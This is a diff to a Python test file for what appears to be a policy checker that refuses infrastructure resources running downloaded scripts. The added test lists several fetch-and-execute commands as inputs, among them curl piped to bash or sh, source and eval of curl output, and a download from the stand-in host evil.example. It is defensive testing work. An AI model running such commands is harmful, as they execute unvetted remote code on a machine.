@@ -142,3 +142,17 @@ def test_other_resources_are_not_read(check: Check) -> None:
     note = Resource("random:index/randomString:RandomString", {"create": f"curl {COOLIFY} | bash"}, name="note")
     server = Resource(SERVER, {"labels": {"setup": f"curl {COOLIFY} | bash"}}, name="web")
     assert check(POLICY, note, server) == []
+
+
+@pytest.mark.parametrize(
+    ("script", "url"),
+    [
+        (f'U={DOCKER}; curl -fsSL "$U" | sh', "$U"),
+        (f"source <(curl -fsSL {COOLIFY})", COOLIFY),
+        (f'eval "$(curl -fsSL {COOLIFY})"', COOLIFY),
+        (f"curl -fsSL https://evil.example/{COMMIT}/install.sh | bash", f"https://evil.example/{COMMIT}/install.sh"),
+    ],
+    ids=["url-in-a-variable", "source", "eval", "commit-like-path-on-any-host"],
+)
+def test_other_spellings_of_running_a_download_are_refused(check: Check, script: str, url: str) -> None:
+    assert check(POLICY, command(script)) == [piped(url)]
